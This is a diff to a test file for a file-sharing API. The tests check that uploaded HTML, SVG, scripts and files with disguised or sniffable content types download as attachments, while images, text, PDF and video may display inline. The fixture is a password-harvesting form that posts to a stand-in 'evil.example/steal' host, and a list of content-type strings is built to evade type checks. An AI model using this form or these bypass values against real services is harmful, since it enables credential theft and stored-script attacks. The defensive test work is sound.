@@ -299,9 +299,11 @@ describe('batch uploads, complete and downloads', () => {
     expect(missing).toEqual({ path: 'versions/doc.txt', error: { code: 'not_found', message: expect.any(String) } });
   });
 
-  it('never serves a page inline (HTML, SVG, scripts): through a link, the content route or a share, it comes as a file', async () => {
+  it('serves inline only what a browser shows without running it: a page (HTML, SVG, scripts, a type it sniffs) comes as a file, by link, route or share', async () => {
     const page = text('<form action="https://evil.example/steal"><input name="password"></form>');
-    for (const [path, contentType] of [['pages/invoice.pdf', 'text/html'], ['pages/logo.svg', undefined], ['pages/app.js', 'Text/JavaScript; charset=utf-8']] as const) {
+    const disguised = ['unknown/unknown', 'application/unknown', '*/*', 'text/plain,text/html', 'html', 'text/plain; charset="a,text/html"'];
+    const cases = [['pages/invoice.pdf', 'text/html'], ['pages/logo.svg', undefined], ['pages/app.js', 'Text/JavaScript; charset=utf-8'], ...disguised.map((type, i) => [`pages/sniffed-${i}.txt`, type])] as const;
+    for (const [path, contentType] of cases) {
       expect((await uploadBytes(api, path, page, contentType ? { contentType } : {})).status).toBe(200);
       const link = (await api.post('/v1/batch/downloads', { files: [{ path }], disposition: 'inline' })).body.downloads[0];
       const share = await api.post('/v1/shares', { path, disposition: 'inline' });
@@ -313,10 +315,12 @@ describe('batch uploads, complete and downloads', () => {
         expect(response.headers.get('content-disposition'), `${path} ${url}`).toMatch(/^attachment; filename=/);
       }
     }
-    // Anything else is shown inline when asked.
-    await uploadBytes(api, 'pages/photo.png', text('png'));
-    const png = (await api.post('/v1/batch/downloads', { files: [{ path: 'pages/photo.png' }], disposition: 'inline' })).body.downloads[0];
-    expect((await fetch(png.url)).headers.get('content-disposition')).toMatch(/^inline/);
+    // Images, text, PDF, sound and video are shown inline when asked.
+    for (const [path, contentType] of [['pages/photo.png', undefined], ['pages/notes.txt', undefined], ['pages/report.pdf', undefined], ['pages/clip.mp4', 'Video/MP4']] as const) {
+      await uploadBytes(api, path, text('shown'), contentType ? { contentType } : {});
+      const link = (await api.post('/v1/batch/downloads', { files: [{ path }], disposition: 'inline' })).body.downloads[0];
+      expect((await fetch(link.url)).headers.get('content-disposition'), path).toMatch(/^inline/);
+    }
   });
 });
 
